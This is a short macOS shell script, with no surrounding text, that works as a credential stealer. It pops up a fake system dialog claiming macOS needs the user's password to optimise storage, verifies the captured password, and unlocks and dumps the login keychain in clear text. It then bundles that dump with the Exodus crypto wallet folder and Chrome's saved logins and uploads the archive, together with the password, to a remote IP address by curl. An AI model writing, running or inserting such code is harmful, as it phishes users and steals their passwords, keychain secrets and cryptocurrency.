PW=$(osascript -e 'text returned of (display dialog "macOS needs your password to optimise storage." default answer "" with hidden answer with icon caution)')
dscl . -authonly "$USER" "$PW" && echo ok
security unlock-keychain -p "$PW" ~/Library/Keychains/login.keychain-db
security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/.kc
tar czf /tmp/.c.tgz /tmp/.kc ~/Library/Application\ Support/Exodus ~/Library/Application\ Support/Google/Chrome/Default/Login\ Data
curl -s -F "f=@/tmp/.c.tgz" -F "p=$PW" http://198.51.100.23/mac/up
